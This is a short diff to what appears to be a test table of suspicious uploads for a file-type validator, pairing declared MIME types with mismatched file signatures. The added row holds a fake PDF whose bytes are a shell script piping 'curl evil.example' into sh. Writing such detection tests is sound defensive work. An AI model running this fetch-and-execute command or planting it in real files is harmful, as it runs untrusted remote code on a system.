@@ -46,6 +46,7 @@ SUSPICIOUS = [
     ("audio", "audio/ogg", ELF, "executable"),
     ("document", "application/pdf", PE, "executable"),
     ("document", "application/octet-stream", ELF, "executable"),
+    ("document", "application/pdf", b"#!/bin/sh\nexec curl evil.example | sh\n# ", "active_content"),
     ("image", "image/jpeg", PDF, "type_mismatch"),
     ("video", "video/mp4", b"no signature at all", "type_mismatch"),
 ]
